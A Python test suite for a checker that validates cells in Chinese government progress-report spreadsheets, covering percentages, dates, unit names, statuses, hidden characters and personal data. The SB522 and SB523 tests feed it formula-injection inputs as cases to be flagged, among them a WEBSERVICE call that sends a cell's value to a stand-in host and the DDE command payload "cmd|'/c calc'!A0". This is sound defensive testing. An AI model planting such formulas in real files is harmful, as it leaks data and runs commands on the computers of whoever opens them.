"""Rules of group E: what stands in the cells of a return."""

from datetime import date
from itertools import islice
from typing import Any

import pytest

from officekit.checking import engine
from officekit.checking.rule import RuleBase
from officekit.checking.submission_rule import SubmissionRule
from officekit.checking.submission_subject import SubmissionSubject
from officekit.model.finding import Severity
from officekit.model.unit import Unit, UnitRegistry
from tests.checking.submission_subjects import Return

W, E, I = Severity.WARNING, Severity.ERROR, Severity.INFO  # noqa: E741 - as the taxonomy has it

RULES: dict[str, type[RuleBase[SubmissionSubject]]] = {
    rule.code: rule for rule in engine.discover_submission_rules() if rule.entry[0] == "E"
}
Found = tuple[Severity, int | None, int | None, str | None, str | None]


def found(code: str, subject: SubmissionSubject) -> list[Found]:
    """Severity, row, column, value and expected of every finding of one rule."""
    findings = list(RULES[code](subject.settings).check(subject))
    for finding in findings:
        assert finding.code == code
        assert finding.message.endswith("。")
        assert finding.hint.endswith("。")
    return [(f.severity, f.location.row, f.location.column, f.value, f.expected) for f in findings]


def answer(key: str, column: str, text: str, **how: Any) -> Return:
    return Return().put(key, column, text, **how)


def everything(subject: SubmissionSubject) -> list[tuple[str, str]]:
    return [(f.code, f.message) for rule in RULES.values() for f in rule().check(subject)]


def test_every_entry_of_group_e_has_its_rule() -> None:
    assert sorted(RULES) == [f"SB5{number:02}" for number in range(1, 25)]
    for code, rule in RULES.items():
        assert issubclass(rule, SubmissionRule)
        assert rule.entry == f"E{code[3:]}"
        for part in ("为什么", "不好", "改为"):
            assert part in (rule.__doc__ or "")


def test_a_proper_return_is_not_remarked_upon() -> None:
    assert everything(Return().subject()) == []


def test_an_unfilled_return_is_left_to_another_rule() -> None:
    assert everything(Return().unfilled().subject()) == []


# SB501 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["", "无", "/", "-", "——", "N/A", "同上", "略", "暂无。", "无变化"]
)
def test_a_lead_unit_must_tell_its_progress(text: str):
    subject = answer("K2", "progress", text).subject()
    assert found("SB501", subject) == [(E, 5, 11, text, None)]


def test_a_lead_unit_must_tell_the_status() -> None:
    assert found("SB501", answer("K2", "status", "").subject()) == [(E, 5, 9, "", None)]


def test_a_supporting_unit_may_leave_its_answers_blank() -> None:
    subject = answer("K4", "status", "").put("K4", "progress", "").subject()
    assert found("SB501", subject) == []


def test_problems_may_be_none_and_a_task_that_has_not_begun_has_no_progress() -> None:
    part = answer("K1", "problems", "无").put("K1", "next_steps", "/")
    part.put("K2", "status", "未启动").put("K2", "completion", "0%").put("K2", "progress", "")
    assert found("SB501", part.subject()) == []


# SB502–SB506 ------------------------------------------------------------------------------------


def families() -> UnitRegistry:
    from officekit.data import unit_families

    units = (
        Unit("区水务局", ("区水利局",), "区"),
        Unit("区教育局", (), "区"),
        Unit("区交通运输局", (), "区"),
        Unit("区财政局", (), "区"),
    )
    return UnitRegistry(units, unit_families())


def proposal(lead: str, support: str = "") -> SubmissionSubject:
    part = Return().extra_row(10, {"title": "新建公厕", "lead": lead, "support": support})
    return part.subject(registry=families())


def edited(lead: str) -> SubmissionSubject:
    return answer("K1", "lead", lead).subject(registry=families())


def test_an_unknown_unit_of_a_proposed_task_is_told() -> None:
    subject = proposal("区交通输运局")
    assert found("SB502", subject) == [(W, 10, 6, "区交通输运局", None)]
    (finding,) = RULES["SB502"]().check(subject)
    assert "区交通运输局" in finding.hint


def test_an_unknown_unit_in_an_edited_cell_is_told() -> None:
    assert found("SB502", edited("区畜牧中心")) == [(W, 4, 6, "区畜牧中心", None)]


def test_another_spelling_of_a_unit_is_told() -> None:
    subject = proposal("区水利局", "区财政局")
    assert found("SB503", subject) == [(W, 10, 6, "区水利局", "区水务局")]


def test_a_unit_of_another_level_is_told() -> None:
    subject = proposal("市水务局")
    assert found("SB504", subject) == [(W, 10, 6, "市水务局", "区水务局")]
    assert found("SB502", subject) == []


@pytest.mark.parametrize("group", ["相关单位", "各镇街"])
def test_a_group_can_not_lead(group: str):
    assert found("SB505", proposal(group)) == [(W, 10, 6, group, None)]


def test_units_are_listed_with_one_separator() -> None:
    text = "区水务局/区财政局，区教育局"
    expected = "区水务局、区财政局、区教育局"
    assert found("SB506", proposal(text)) == [(W, 10, 6, text, expected)]


def test_units_do_not_stand_in_running_text() -> None:
    text = "由区教育局牵头负责"
    assert found("SB506", proposal(text)) == [(W, 10, 6, text, None)]


def test_registered_units_are_right_and_labels_are_no_tasks() -> None:
    subject = proposal("区水务局", "区教育局、区财政局")
    for code in ("SB502", "SB503", "SB504", "SB505", "SB506"):
        assert found(code, subject) == []
    label = Return().extra_row(10, {"lead": "填表人：周一帆"}, label=True)
    assert found("SB502", label.subject(registry=families())) == []


# SB507–SB509 ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "percent"),
    [
        ("７５％", "75%"),
        ("75 %", "75%"),
        ("75.0%", "75%"),
        ("075%", "75%"),
        ("百分之七十五", "75%"),
        ("百分之75", "75%"),
        ("百分之百", "100%"),
        ("66.60%", "66.6%"),
        ("75\u200b%", "75%"),
    ],
)
def test_a_percentage_in_another_form_is_put_right(text: str, percent: str):
    subject = answer("K1", "completion", text, number=None, raw="").subject()
    assert found("SB507", subject) == [(W, 4, 10, text, percent)]
    assert found("SB508", subject) == []
    assert found("SB509", subject) == []


@pytest.mark.parametrize("text", ["约75%", "七成", "过半", "3个", "75%以上", "约5亿元", "基本完成"])
def test_an_estimate_is_no_percentage(text: str):
    assert found("SB507", answer("K1", "completion", text).subject()) == [(E, 4, 10, text, None)]


def test_a_sign_for_nothing_is_told_of_but_refuses_nothing() -> None:
    assert found("SB507", answer("K1", "completion", "/").subject()) == [(W, 4, 10, "/", None)]


@pytest.mark.parametrize(
    ("text", "number", "percent"),
    [("75", None, "75%"), ("75", 75.0, "75%"), ("0.75", None, "75%"), ("８０", None, "80%")],
)
def test_a_percentage_without_its_sign_is_put_right(text: str, number: float | None, percent: str):
    subject = answer("K1", "completion", text, number=number).subject()
    assert found("SB508", subject) == [(W, 4, 10, text, percent)]


def test_a_share_in_a_cell_without_percentage_format_is_put_right() -> None:
    part = answer("K1", "completion", "75%", number=0.75, raw="0.75").sheet(percent=frozenset())
    assert (W, 4, 10, "0.75", "75%") in found("SB508", part.subject())


def test_a_share_is_right_where_the_format_is_not_known() -> None:
    part = answer("K1", "completion", "75%", number=0.75, raw="0.75").as_xls()
    assert found("SB508", part.subject()) == []


def test_a_percentage_a_hundred_times_too_large_is_refused() -> None:
    subject = answer("K1", "completion", "7500%").subject()
    assert found("SB508", subject) == [(E, 4, 10, "7500%", "75%")]
    assert found("SB509", subject) == []


def test_a_one_can_be_read_in_two_ways() -> None:
    assert found("SB508", answer("K1", "completion", "1").subject()) == [(E, 4, 10, "1", None)]


def test_less_than_one_percent_is_worth_a_look() -> None:
    subject = answer("K1", "completion", "0.75%", number=0.0075, raw="0.0075").subject()
    assert found("SB508", subject) == [(W, 4, 10, "0.75%", None)]


@pytest.mark.parametrize("text", ["0%", "5%", "37.5%", "99%", "100%"])
def test_a_percentage_is_right(text: str):
    subject = answer("K1", "completion", text).subject()
    for code in ("SB507", "SB508", "SB509"):
        assert found(code, subject) == []


@pytest.mark.parametrize("text", ["120%", "-5%", "101%", "－５％"])
def test_a_percentage_out_of_range_is_refused(text: str):
    assert found("SB509", answer("K1", "completion", text).subject()) == [(E, 4, 10, text, None)]


def test_a_percentage_lower_than_before_is_told() -> None:
    previous = {"K1": {"completion": "60%"}, "K2": {"completion": "40%"}, "K3": {"completion": ""}}
    subject = Return().subject(previous=previous)
    assert found("SB509", subject) == [(W, 4, 10, "40%", None)]


# SB510–SB512 ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "printed"),
    [
        ("已于2023年6月31日开工建设。", "2023年6月31日"),
        ("2月30日完成招标工作。", "2月30日"),
        ("2023.13.1印发实施方案。", "2023.13.1"),
        ("2023-09-31前报区政府审定。", "2023-09-31"),
        ("13月5日完成验收工作。", "13月5日"),
    ],
)
def test_a_date_that_no_calendar_has_is_told(text: str, printed: str):
    assert found("SB510", answer("K1", "progress", text).subject()) == [(W, 4, 11, printed, None)]


@pytest.mark.parametrize(
    "text",
    [
        "2月29日完成招标工作。",
        "2023年8月31日开工，10月30日完工。",
        "软件升级到2023.9版。",
        "第31次会议",
    ],
)
def test_a_date_of_the_calendar_is_right(text: str):
    assert found("SB510", answer("K1", "progress", text).subject()) == []


def test_a_serial_number_in_a_text_column_is_told() -> None:
    subject = answer("K1", "progress", "45838", number=45838).subject()
    assert found("SB510", subject) == [(W, 4, 11, "45838", "2025-06-30")]


@pytest.mark.parametrize(
    ("text", "expected"),
    [("45838", "2025-06-30"), ("25.6.30", None), ("2025年6月31日", None)],
)
def test_the_deadline_of_a_proposed_task_is_looked_at(text: str, expected: str | None):
    subject = Return().extra_row(10, {"title": "新建公厕", "deadline": text}).subject()
    assert found("SB510", subject) == [(W, 10, 8, text, expected)]


def test_usual_deadlines_of_a_proposed_task_are_right() -> None:
    for text in ("2025年6月底", "长期坚持", "2025.6.30", "2025年上半年", "2025-06-30"):
        subject = Return().extra_row(10, {"title": "新建公厕", "deadline": text}).subject()
        assert found("SB510", subject) == []


def test_a_text_that_became_a_date_is_told() -> None:
    rows = {4: {11: date(2023, 3, 4)}}
    part = answer("K1", "progress", "2023-03-04").sheet(rows=rows)
    assert found("SB511", part.subject()) == [(W, 4, 11, "2023-03-04", None)]


def test_a_date_typed_as_text_stays_one() -> None:
    assert found("SB511", answer("K1", "progress", "2023-03-04").subject()) == []


def test_a_number_that_lost_digits_is_refused() -> None:
    number = 123456789012345680.0
    subject = answer("K1", "person", "123456789012345680", number=number).subject()
    assert found("SB512", subject) == [(E, 4, 14, "123456789012345680", None)]


def test_a_number_shown_with_an_exponent_is_told() -> None:
    part = answer("K1", "next_steps", "13900000000", number=13900000000.0)
    part.sheet(scientific=frozenset({(4, 13)}))
    assert found("SB512", part.subject()) == [(W, 4, 13, "13900000000", None)]


def test_a_short_number_as_person_may_have_lost_its_zeros() -> None:
    subject = answer("K1", "person", "7", number=7).subject()
    assert found("SB512", subject) == [(W, 4, 14, "7", None)]


def test_digits_typed_as_text_are_right() -> None:
    assert found("SB512", answer("K1", "person", "007").subject()) == []
    assert found("SB512", answer("K1", "person", "68123456", number=68123456).subject()) == []


# SB513, SB514, SB523 ----------------------------------------------------------------------------


def formula(text: str, value: str, **how: Any) -> SubmissionSubject:
    part = answer("K1", "completion", value, formula=text)
    return part.sheet(formulas={(4, 10): text}, **how).subject()


def test_a_formula_with_its_result_is_told() -> None:
    assert found("SB513", formula("3/4", "75%")) == [(W, 4, 10, "=3/4", None)]


def test_a_formula_without_result_is_refused() -> None:
    subject = formula("SUM(A1:A3)", "", uncached=frozenset({(4, 10)}))
    assert found("SB513", subject) == [(E, 4, 10, "=SUM(A1:A3)", None)]


def test_a_formula_that_reads_another_file_is_refused() -> None:
    for text in ("[1]汇总!B3", r"'C:\台账\[台账.xlsx]汇总'!B3"):
        assert found("SB513", formula(text, "75%")) == [(E, 4, 10, f"={text}", None)]


def test_values_are_no_formulas() -> None:
    assert found("SB513", Return().subject()) == []


def test_an_error_value_is_refused() -> None:
    part = answer("K1", "completion", "#REF!", formula="Z9/0")
    subject = part.sheet(errors=frozenset({(4, 10)}), formulas={(4, 10): "Z9/0"}).subject()
    assert found("SB514", subject) == [(E, 4, 10, "#REF!", None)]
    assert found("SB513", subject) == []


def test_an_error_value_in_a_text_file_is_refused() -> None:
    assert found("SB514", answer("K1", "progress", "#N/A").subject()) == [(E, 4, 11, "#N/A", None)]
    assert found("SB514", answer("K1", "progress", "#1楼已封顶").subject()) == []


@pytest.mark.parametrize(
    "text",
    [
        'WEBSERVICE("http://example.test/?"&A1)',
        'HYPERLINK("http://example.test","查看")',
        'INDIRECT("[a.xlsx]Sheet1!A1")',
        "cmd|'/c calc'!A0",
        'DDE("soffice","x","y")',
    ],
)
def test_a_formula_that_reaches_out_is_refused(text: str):
    subject = formula(text, "1")
    assert found("SB523", subject) == [(E, 4, 10, f"={text}", None)]
    assert found("SB513", subject) == []


def test_a_formula_that_only_counts_is_not_dangerous() -> None:
    assert found("SB523", formula('IF(A1>0,"CALL(1)"&B1,SUM(B2:B3))', "1")) != []
    assert found("SB523", formula("ROUND(SUM(B2:B3)/4,2)", "1")) == []


# SB515 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "status"),
    [
        ("正在推进", "推进中"),
        ("进行中", "推进中"),
        ("尚未启动", "未启动"),
        ("延期", "滞后"),
        ("【推进中】", "推进中"),
        ("推进 中", "推进中"),
        ("推进中。", "推进中"),
    ],
)
def test_another_spelling_of_a_status_is_put_right(text: str, status: str):
    part = answer("K1", "status", text).put("K1", "completion", "").put("K1", "progress", "")
    part.put("K1", "problems", "资金没有到位")
    assert found("SB515", part.subject()) == [(W, 4, 9, text, status)]


def test_done_in_other_words_is_done() -> None:
    subject = answer("K1", "status", "完成").put("K1", "completion", "100%").subject()
    assert found("SB515", subject) == [(W, 4, 9, "完成", "已完成")]


@pytest.mark.parametrize("text", ["基本完成", "是", "75%", "已完成/推进中"])
def test_a_word_that_is_no_status_is_refused(text: str):
    assert found("SB515", answer("K1", "status", text).subject()) == [(E, 4, 9, text, None)]


@pytest.mark.parametrize(
    ("status", "completion", "value"),
    [
        ("已完成", "60%", "已完成；完成率却是60%"),
        ("推进中", "100%", "推进中；完成率却是100%"),
        ("未启动", "10%", "未启动；完成率却是10%"),
        ("滞后", "40%", "滞后；却没有写存在问题"),
    ],
)
def test_a_status_that_the_percentage_contradicts_is_told(status: str, completion: str, value: str):
    part = answer("K1", "status", status).put("K1", "completion", completion)
    part.put("K1", "progress", "因选址调整尚未启动。" if status == "未启动" else "主体工程施工。")
    assert found("SB515", part.subject()) == [(W, 4, 9, value, None)]


def test_a_task_that_has_not_begun_but_tells_of_progress_is_told() -> None:
    part = answer("K1", "status", "未启动").put("K1", "completion", "0%")
    part.put("K1", "progress", "已完成招标，正在进场。")
    value = "未启动；进展情况却写着“已完成招标，正在进场。”"
    assert found("SB515", part.subject()) == [(W, 4, 9, value, None)]


def test_a_task_whose_deadline_has_passed_is_no_longer_under_way() -> None:
    part = Return().issue("K2", "deadline", "2023年8月底前")
    value = "推进中；完成时限“2023年8月底前”已过"
    assert found("SB515", part.subject()) == [(W, 5, 9, value, None)]


def test_a_deadline_that_ends_with_the_period_has_not_passed() -> None:
    part = Return().issue("K2", "deadline", "2023年9月30日")
    assert found("SB515", part.subject()) == []


def test_statuses_that_agree_with_the_rest_are_right() -> None:
    part = answer("K1", "status", "已完成").put("K1", "completion", "100%")
    part.put("K2", "status", "滞后").put("K2", "problems", "设备到货推迟。")
    part.put("K3", "status", "未启动").put("K3", "completion", "0%")
    part.put("K3", "progress", "待省厅下达计划后启动，目前正在准备。")
    assert found("SB515", part.subject()) == []


# SB516 ------------------------------------------------------------------------------------------


def test_a_progress_like_the_one_before_is_told() -> None:
    text = "主体加固已经完成，正在铺设操场。"
    previous = {"K2": {"progress": "主体加固已经完成，正在铺设操场"}}
    assert found("SB516", Return().subject(previous=previous)) == [(W, 5, 11, text, None)]


def test_a_task_that_is_done_may_say_the_same_as_before() -> None:
    previous = {"K2": {"progress": "主体加固已经完成，正在铺设操场。"}}
    part = answer("K2", "status", "已完成").put("K2", "completion", "100%")
    assert found("SB516", part.subject(previous=previous)) == []


@pytest.mark.parametrize("text", ["完成北坡小学校舍改造。", "北坡小学校舍改造"])
def test_a_progress_that_copies_the_task_is_told(text: str):
    assert found("SB516", answer("K2", "progress", text).subject()) == [(W, 5, 11, text, None)]


def test_a_progress_of_a_few_characters_is_told() -> None:
    assert found("SB516", answer("K2", "progress", "有序推进。").subject()) == [
        (W, 5, 11, "有序推进。", None)
    ]


def test_the_least_length_can_be_set() -> None:
    subject = answer("K2", "progress", "有序推进。").subject(settings={"SB516.最少字数": "3"})
    assert found("SB516", subject) == []


def test_the_same_progress_in_many_rows_is_told_once() -> None:
    text = "已召开专题会议研究部署。"
    part = Return()
    for key in ("K1", "K2", "K3"):
        part.put(key, "progress", text)
    assert found("SB516", part.subject()) == [(W, 4, 11, text, None)]
    assert found("SB516", part.put("K3", "progress", "十月上旬开课。").subject()) == []


# SB517–SB522 ------------------------------------------------------------------------------------


@pytest.mark.parametrize("length", [255, 1024, 32767])
def test_a_text_that_ends_at_a_limit_was_cut(length: int):
    part = answer("K1", "progress", "建" * length).subject()
    assert found("SB517", part) == [(W, 4, 11, str(length), None)]


def test_a_very_long_text_is_told() -> None:
    assert found("SB517", answer("K1", "progress", "建" * 5001).subject()) == [
        (W, 4, 11, "5001", None)
    ]


def test_a_text_below_the_limits_or_with_an_end_is_right() -> None:
    assert found("SB517", answer("K1", "progress", "建" * 254 + "。").subject()) == []
    assert found("SB517", answer("K1", "progress", "建" * 4000).subject()) == []


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("完成\u200b招标工作", "完成招标工作"),
        ("完成\xa0招标工作", "完成 招标工作"),
        ("完成_x000D_\n招标工作", "完成\n招标工作"),
        ("完成\x07招标\x0b工作", "完成招标\n工作"),
        ("完成\t招标\xad工作", "完成 招标工作"),
        ("完\u202e成招标工作", "完成招标工作"),
    ],
)
def test_unseen_characters_are_taken_out(text: str, clean: str):
    assert found("SB518", answer("K1", "progress", text).subject()) == [(W, 4, 11, text, clean)]


@pytest.mark.parametrize(
    "text", ["第一段。\n　　第二段。", "参观者👨\u200d👩\u200d👧好评❤️", "张　三", "代码_x12"]
)
def test_what_is_seen_stays(text: str):
    assert found("SB518", answer("K1", "progress", text).subject()) == []


def test_text_that_looks_deleted_is_told() -> None:
    part = Return().sheet(struck=frozenset({(4, 11)}), invisible=frozenset({(5, 12), (6, 14)}))
    assert found("SB519", part.subject()) == [
        (W, 4, 11, "东岭、西桥两个托幼点已经开工，南湾点完成选址。", None),
        (W, 6, 14, "周一帆", None),
    ]


def test_struck_text_of_an_assigned_cell_is_no_answer() -> None:
    assert found("SB519", Return().sheet(struck=frozenset({(4, 4)})).subject()) == []


def test_phonetic_guides_are_told() -> None:
    part = Return().sheet(phonetic=frozenset({(4, 14)}))
    assert found("SB520", part.subject()) == [(W, 4, 14, "周一帆", None)]
    assert found("SB520", Return().subject()) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [("张O", None), ("曰向东", None), ("李\u2f00川", "李一川"), ("王а民", None)],
)
def test_a_character_that_looks_like_another_is_told_in_names(text: str, expected: str | None):
    assert found("SB521", answer("K1", "person", text).subject()) == [(W, 4, 14, text, expected)]


@pytest.mark.parametrize(
    "text", ["周一帆", "周一帆 13900000000", "周一帆、李明（0571-6812）", "王乐A"]
)
def test_a_usual_name_is_right(text: str):
    assert found("SB521", answer("K1", "person", text).subject()) == []


@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "+cmd|'/c calc'!A0", "-2+3", "＝1+1"])
def test_text_that_looks_like_a_formula_is_told(text: str):
    assert found("SB522", answer("K1", "progress", text).subject()) == [(I, 4, 11, text, None)]


@pytest.mark.parametrize(
    "text", ["- 完成招标；\n- 开工", "-完成招标", "+8.5%", "+86 13900000000", "—"]
)
def test_list_marks_and_signed_numbers_are_no_formulas(text: str):
    assert found("SB522", answer("K1", "progress", text).subject()) == []


# SB524 ------------------------------------------------------------------------------------------

GOOD_IDENTITY = "11010519491231002X"  # the example of GB 11643-1999


def test_an_identity_number_is_told_and_shown_in_part() -> None:
    subject = answer("K1", "progress", f"已联系代表（{GOOD_IDENTITY}）。").subject()
    assert found("SB524", subject) == [(W, 4, 11, "110***********002X", None)]
    (finding,) = RULES["SB524"]().check(subject)
    assert GOOD_IDENTITY not in finding.message + finding.location.quote + (finding.value or "")


def test_a_telephone_number_is_told_in_text_but_not_beside_a_person() -> None:
    subject = answer("K1", "problems", "请联系13900000000。").subject()
    assert found("SB524", subject) == [(W, 4, 12, "139****0000", None)]
    assert found("SB524", answer("K1", "person", "周一帆13900000000").subject()) == []


@pytest.mark.parametrize(
    "text", ["投资13900000000元。", "编号110105194912310021。", "合同号2023091500012345678。"]
)
def test_other_long_numbers_are_no_personal_data(text: str):
    assert found("SB524", answer("K1", "progress", text).subject()) == []


# A reasonable return ----------------------------------------------------------------------------

ANSWERS = (
    (
        "推进中",
        "60%",
        "已完成可研批复，正在开展招标工作，累计完成投资1.2亿元，占年度计划的60%。",
        "无",
    ),
    ("推进中", "45%", "一是完成征地120亩；二是拆迁68户，剩余12户正在协商。", "个别农户补偿未谈妥"),
    ("已完成", "100%", "9月15日通过竣工验收，已投入使用。", ""),
    ("已完成", "100%", "已完成。", "无"),
    ("滞后", "20%", "完成初步设计，施工图正在审查。", "用地指标尚未落实，较计划推迟2个月。"),
    ("未启动", "0%", "", "计划第四季度启动"),
    ("未启动", "", "资金尚未下达，待资金到位后启动招标。", "资金缺口300万元"),
    (
        "推进中",
        "33.3%",
        "3个标段中1个完工。\n其余2个标段：\n（1）二标段完成路基；\n（2）三标段进场。",
        "/",
    ),
    ("推进中", "70%", "开展培训12期、1,350人次，完成年度目标的70%。", "—"),
    ("推进中", "5%", "印发《青禾区供水保障方案》（青政办发〔2023〕31号）。", "无"),
    ("推进中", "80%", "1-8月，规上工业增加值同比增长8.5%，高于全市1.2个百分点。", "无。"),
    ("推进中", "50%", "①电缆敷设完成50%；②配电房土建完工；③设备已到货。", "暂无"),
    ("推进中", "", "长期工作。本期巡查河道56次，清理垃圾23吨。", ""),
    ("推进中", "90%", "主体封顶（18层），幕墙安装90%；预计2023年12月31日前交付。", "工人不足"),
    ("已完成", "100%", "超额完成：计划新建10处，实际建成12处，完成率120%。", "无"),
    (
        "推进中",
        "65%",
        "签约项目7个，总投资35.6亿元，其中亿元以上项目3个；新增外资USD 1200万。",
        "无",
    ),
    ("推进中", "30%", "“一网通办”平台V2.1上线，接入事项1,206项，访问量达2.3×10⁴次。", "无"),
    (
        "推进中",
        "15%",
        "已召开3次协调会（8月30日、9月6日、9月28日），方案在征求意见。",
        "意见不一致",
    ),
    ("滞后", "10%", "受汛期影响，暂停施工至9月底。", "连续强降雨，工期延误约30天"),
    ("推进中", "55%", "完成55%。其中：A区60%，B区50%。", ""),
    ("推进中", "75%", "对照年度目标，发放补贴1 200户，合计2400000元。", "部分户信息不全"),
    ("推进中", "40%", "9/20已报区政府审议；10/8上会。", "无"),
    ("已完成", "100%", "2023年9月1日正式开园，招生360人（含小班120人）。", "无"),
    ("推进中", "25%", "-完成选址\n-完成勘察\n-正在设计", "无"),
    ("推进中", "35%", "网址www.qinghe.example，已公示至2023-09-30。", "无"),
    ("推进中", "12.5%", "8所学校中1所完成更换，其余按序时进度推进。", "采购周期长"),
    ("推进中", "48%", "土地出让收入4.8亿元；税收12,345.67万元。", "房地产市场低迷"),
    ("未启动", "0%", "按计划安排在2024年实施，本年度没有任务。", ""),
    ("推进中", "85%", "核酸检测点改造成社区服务站17个，占比85%，群众满意度98.6%。", "无"),
    ("推进中", "62%", "粮食播种面积12.6万亩，完成秋收62%，烘干能力达到500吨/日。", "无"),
    ("推进中", "20%", "专班已成立，区长任组长；下设办公室（设在区水务局）。", "人员尚未到位"),
    ("推进中", "58%", "完成管网改造5.8公里（共10公里），DN300以上2.1km。", "交通组织困难"),
    ("推进中", "77%", "培育“专精特新”企业23家，其中国家级2家、省级21家。", "无"),
    ("滞后", "5%", "方案第3稿已送审。", "部门意见不统一，需区政府协调。"),
    ("推进中", "95%", "剩余绿化收尾，预计10月15日完工。", "无"),
    ("推进中", "38%", "截至9月25日，完成投资3,800万元；支付率38%。", "支付手续较慢"),
    ("推进中", "66%", "开展“回头看”2轮，发现问题45个，整改30个，整改率66.7%。", "15个问题正在整改"),
    ("推进中", "52%", "共享单车清运车次3.1万；投诉量下降-12%（同比）。", "无"),
    ("推进中", "18%", "与东岭镇、南湾街道签订协议，流转土地1800亩。", "无"),
    ("推进中", "71%", "完成老旧小区改造71栋，惠及居民4,260户、约1.1万人。", "管线迁改滞后"),
)
NEXT = (
    "10月底前完成招标，11月进场。",
    "加快征地，力争年底前开工。",
    "",
    "继续做好后续工作。",
    "无",
)
PERSONS = ("周一帆", "李 明 13900000000", "王乐（副局长）", "欧阳安、陈玉洁", "张　平")


def test_forty_reasonable_answers_are_not_remarked_upon() -> None:
    assert len(ANSWERS) == 40
    answers = iter(ANSWERS)
    number = 0
    while four := list(islice(answers, 4)):
        part = Return()
        for key, (status, completion, progress, problems) in zip(
            part.packet.keys, four, strict=True
        ):
            part.put(key, "status", status).put(key, "completion", completion)
            if completion.endswith((".3%", ".5%")):
                share = round(float(completion[:-1]) / 100, 4)
                part.put(key, "completion", completion, number=share, raw=str(share))
            part.put(key, "progress", progress).put(key, "problems", problems)
            part.put(key, "next_steps", NEXT[number % len(NEXT)])
            part.put(key, "person", PERSONS[number % len(PERSONS)])
            number += 1
        assert everything(part.subject()) == []
